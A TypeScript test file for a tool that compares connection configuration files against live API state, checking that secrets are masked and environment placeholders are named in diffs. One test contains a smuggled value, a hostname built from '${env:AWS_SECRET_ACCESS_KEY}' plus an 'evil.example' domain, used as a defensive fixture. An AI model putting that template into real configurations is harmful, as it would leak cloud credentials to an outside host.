import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { compareWithLive } from '../../core/src/liveComparison';
import { schemaReadOnlyKeys, schemaSensitiveKeys, secretRule } from '../../core/src/sensitiveFields';
import { secretFieldValues } from '../../core/src/secretFingerprints';
import type { Connection } from '../../core/src/api/types';

const schema = { properties: { hostname: { type: 'string' }, password: { type: 'string', sensitive: true }, port: { type: 'integer' } } };
const rule = secretRule(schemaSensitiveKeys(schema));
const live: Connection = {
  id: 'c1',
  name: 'Warehouse',
  type: { id: 'postgresql', name: 'PostgreSQL' },
  configuration: { hostname: 'db.example.com', password: '********', port: 5432 },
};

describe('Apply comparison', () => {
  test('a matching file is equal; a secret never sent from here is "not known", named by its placeholder, not masked', () => {
    const file = { id: 'c1', name: 'Warehouse', type: 'postgresql', configuration: { port: 5432, hostname: 'db.example.com', password: '${env:PG}' } };
    const c = compareWithLive(file, live, rule);
    assert.equal(c.equal, true);
    assert.deepEqual(c.unknown.map((u) => u.path), ['configuration.password']);
    assert.match(c.fileText, /"password": "\$\{env:PG\}" \/\/ not known/);
    assert.ok(!c.fileText.includes('****'), 'the placeholder is named, not masked');
    assert.deepEqual(c.placeholders, [{ kind: 'env', name: 'PG', path: 'configuration.password' }]);
  });

  test('a secret changed since the last apply is a change, and says so on both sides', () => {
    const file = { name: 'Warehouse', type: 'postgresql', configuration: { hostname: 'db.example.com', password: '${env:PG}', port: 5432 } };
    const c = compareWithLive(file, live, rule, { resolved: { ...file.configuration, password: 'new' }, secretStatus: { 'configuration.password': 'changed' } });
    assert.equal(c.equal, false);
    assert.deepEqual(c.changes, [{ path: 'configuration.password', note: 'changed since the last apply' }]);
    assert.match(c.fileText, /"password": "\$\{env:PG\}", \/\/ changed since the last apply/);
    assert.match(c.liveText, /"password": "\*{8}", \/\/ changed since the last apply/);
    const same = compareWithLive(file, live, rule, { secretStatus: { 'configuration.password': 'unchanged' } });
    assert.equal(same.equal, true);
    assert.equal(same.fileText.replace(/^.*"id".*\n/m, ''), same.liveText.replace(/^.*"id".*\n/m, ''));
  });

  test('the file side is the file as written: comments and key order stay, a literal secret is masked; the live side follows its order', () => {
    const text = '{\n  // the warehouse\n  "type": "postgresql",\n  "name": "Warehouse",\n  "configuration": {\n    "port": 5433, // moved\n    "password": "hunter2-literal",\n    "hostname": "db.example.com"\n  }\n}\n';
    const file = { type: 'postgresql', name: 'Warehouse', configuration: { port: 5433, password: 'hunter2-literal', hostname: 'db.example.com' } };
    const c = compareWithLive(file, live, rule, { fileText: text });
    assert.equal(c.equal, false);
    assert.ok(!c.fileText.includes('hunter2'));
    assert.match(c.fileText, /\/\/ the warehouse\n {2}"type": "postgresql",\n {2}"name"/);
    assert.match(c.fileText, /"port": 5433, \/\/ moved/);
    assert.deepEqual(Object.keys(JSON.parse(c.liveText.replace(/\/\/.*$/gm, '')).configuration), ['port', 'password', 'hostname']);
    assert.ok(c.changes.some((x) => x.path === 'configuration.port' && x.note === '5432 → 5433'));
  });

  test('a placeholder in a field the API returns in clear is compared by its value and named, never masked', () => {
    // The attack of a file from elsewhere: ${env:ANY} in a hostname. The diff must show the name, not ********.
    const file = { name: 'Warehouse', type: 'postgresql', configuration: { hostname: '${env:AWS_SECRET_ACCESS_KEY}.evil.example', password: '${env:PG}', port: 5432 } };
    const c = compareWithLive(file, live, rule, { resolved: { ...file.configuration, hostname: 'AKIA-secret.evil.example' } });
    assert.equal(c.equal, false);
    assert.match(c.fileText, /"hostname": "\$\{env:AWS_SECRET_ACCESS_KEY\}\.evil\.example"/);
    assert.match(c.liveText, /"hostname": "db\.example\.com"/);
    assert.ok(!c.fileText.includes('AKIA') && !c.liveText.includes('AKIA'));
    assert.ok(c.placeholders.some((p) => p.name === 'AWS_SECRET_ACCESS_KEY' && p.path === 'configuration.hostname'));
    const unresolved = compareWithLive(file, live, rule, { missing: new Set(['configuration.hostname']) });
    assert.ok(unresolved.unknown.some((u) => u.path === 'configuration.hostname' && /not set yet/.test(u.note)));
  });

  test('nested secrets (no schema flag) are masked by name, and fields only one side has still show', () => {
    const apiLive: Connection = { id: 'a', name: 'API', type: { id: 'api' }, configuration: { url: 'https://x', auth: { basic: { username: 'u', password: 'plain-on-server' } } } };
    const file = { name: 'API', type: 'api', configuration: { url: 'https://x', auth: { basic: { username: 'u', password: 'other' } }, body: '{}' } };
    const c = compareWithLive(file, apiLive, secretRule(new Set()));
    assert.ok(!c.liveText.includes('plain-on-server'));
    assert.ok(!c.fileText.includes('other'));
    assert.match(c.fileText, /"body": "\{\}"/);
    assert.ok(!c.liveText.includes('"body"'));
    assert.ok(c.changes.some((x) => x.path === 'configuration.auth.basic.password' && x.note === 'changed since the last apply'));
  });

  test('optional envelope fields are compared only when the file sets them', () => {
    const withPolicies = { ...live, policies: ['p1'], healthcheck_interval: '1h' };
    const file = { name: 'Warehouse', type: 'postgresql', configuration: { hostname: 'db.example.com', password: 'x', port: 5432 } };
    assert.equal(compareWithLive(file, withPolicies, rule).equal, true);
    assert.equal(compareWithLive({ ...file, healthcheck_interval: '2h' }, withPolicies, rule).equal, false);
  });
});

describe('fields an apply can never change', () => {
  const typed = { properties: { api_id: { type: 'integer', sensitive: true }, api_key: { type: 'string', sensitive: true }, account: { type: 'string', readOnly: true } } };
  const typedRule = secretRule(schemaSensitiveKeys(typed));
  const strackr: Connection = { id: 's1', name: 'Strackr', type: { id: 'strackr' }, configuration: { api_id: '********', api_key: '********' } };

  test('an integer secret comes back masked: it is known by its fingerprint, not "******** → ********" forever', () => {
    const file = { id: 's1', name: 'Strackr', type: 'strackr', configuration: { api_id: 12345, api_key: '${env:KEY}' } };
    const values = secretFieldValues(file.configuration, { ...file.configuration, api_key: 'k' }, typedRule);
    assert.deepEqual(values, { 'configuration.api_id': '12345', 'configuration.api_key': 'k' });
    const never = compareWithLive(file, strackr, typedRule);
    assert.equal(never.equal, true, JSON.stringify(never.changes));
    assert.deepEqual(never.unknown.map((u) => u.path), ['configuration.api_id', 'configuration.api_key']);
    assert.ok(!never.fileText.includes('12345'), 'the file side masks it too');
    const sent = compareWithLive(file, strackr, typedRule, { secretStatus: { 'configuration.api_id': 'unchanged', 'configuration.api_key': 'unchanged' } });
    assert.deepEqual([sent.equal, sent.unknown], [true, []]);
    const changed = compareWithLive(file, strackr, typedRule, { secretStatus: { 'configuration.api_id': 'changed', 'configuration.api_key': 'unchanged' } });
    assert.deepEqual(changed.changes.map((c) => c.path), ['configuration.api_id']);
  });

  test('a read-only field the file sets anyway is not a change: the API drops it', () => {
    const file = { id: 's1', name: 'Strackr', type: 'strackr', configuration: { api_id: 1, api_key: '${env:KEY}', account: 'acme' } };
    const c = compareWithLive(file, strackr, typedRule, { readOnlyKeys: schemaReadOnlyKeys(typed), secretStatus: { 'configuration.api_id': 'unchanged', 'configuration.api_key': 'unchanged' } });
    assert.equal(c.equal, true, JSON.stringify(c.changes));
    const without = compareWithLive(file, strackr, typedRule, { secretStatus: { 'configuration.api_id': 'unchanged', 'configuration.api_key': 'unchanged' } });
    assert.deepEqual(without.changes.map((ch) => ch.note), ['added by the file']);
  });
});

describe('header pairs', () => {
  test('the value of a secret-named header is masked on both sides; other headers show', () => {
    const apiLive: Connection = {
      id: 'a',
      name: 'API',
      type: { id: 'api' },
      configuration: { url: 'https://x', headers: [{ name: 'Authorization', value: 'Bearer live-token-123' }, { name: 'Accept', value: 'application/json' }] },
    };
    const file = { name: 'API', type: 'api', configuration: { url: 'https://x', headers: [{ name: 'Authorization', value: 'Bearer file-token-456' }, { name: 'Accept', value: 'text/csv' }] } };
    const c = compareWithLive(file, apiLive, secretRule(new Set()));
    assert.ok(!c.liveText.includes('live-token-123'));
    assert.ok(!c.fileText.includes('file-token-456'));
    assert.match(c.liveText, /application\/json/);
    assert.match(c.fileText, /text\/csv/);
    const onlyLive = compareWithLive({ name: 'API', type: 'api', configuration: {} }, apiLive, secretRule(new Set()));
    assert.ok(!onlyLive.liveText.includes('live-token-123'), 'also when the file has no headers at all');
  });
});
